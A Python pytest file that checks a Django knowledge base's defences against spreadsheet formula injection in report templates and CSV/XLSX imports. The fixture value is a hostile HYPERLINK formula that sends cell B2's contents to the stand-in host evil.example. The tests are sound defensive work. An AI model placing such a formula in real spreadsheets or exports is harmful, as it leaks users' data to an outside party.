"""Formula injection (issue 15 item 6): the offline template holds no formula even when a
question's text looks like one, and hostile comments come back unchanged from XLSX and CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from minamata_kb.core import tabular
from minamata_kb.core.tests.test_tabular import formula_cells
from minamata_kb.national_reports.importer import import_national_reports
from minamata_kb.national_reports.models import Answer
from minamata_kb.national_reports.offline import template_xlsx

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'


def test_template_has_no_formula_cells(nr: Any) -> None:
    q = nr.full.format.questions.get(number=3)
    q.text_en = TITLE
    q.save()
    data = template_xlsx(nr.full, "en")
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["report"]
    assert TITLE in [c.value for row in sheet.iter_rows() for c in row]


def _filled_rows(nr: Any) -> list[dict[str, str]]:
    rows: list[dict[str, str]] = []
    for q in nr.short.questions():
        answer = (q.allowed or ["Free text"])[0]
        rows.append(
            {
                "party": "TUV",
                "cycle": nr.short.code,
                "question": str(q.number),
                "answer": answer,
                "comment": TITLE,
            }  # fmt: skip
        )
    return rows


def test_hostile_comments_round_trip_through_csv(nr: Any, tmp_path: Path) -> None:
    buf = io.StringIO(newline="")
    w = tabular.DictWriter(buf, fieldnames=["party", "cycle", "question", "answer", "comment"])
    w.writeheader()
    w.writerows(_filled_rows(nr))
    assert all(r["comment"] == "'" + TITLE for r in csv.DictReader(io.StringIO(buf.getvalue())))
    path = tmp_path / "r.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    import_national_reports(path)
    comments = set(
        Answer.objects.filter(report__party__code="TUV").values_list("comment", flat=True)
    )
    assert comments == {TITLE}


def test_hostile_comments_round_trip_through_xlsx(nr: Any, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    rows = _filled_rows(nr)
    tabular.xlsx_append(sheet, list(rows[0]))
    for r in rows:
        tabular.xlsx_append(sheet, list(r.values()))
    path = tmp_path / "r.xlsx"
    book.save(path)
    assert formula_cells(path.read_bytes()) == []
    import_national_reports(path)
    comments = set(
        Answer.objects.filter(report__party__code="TUV").values_list("comment", flat=True)
    )
    assert comments == {TITLE}
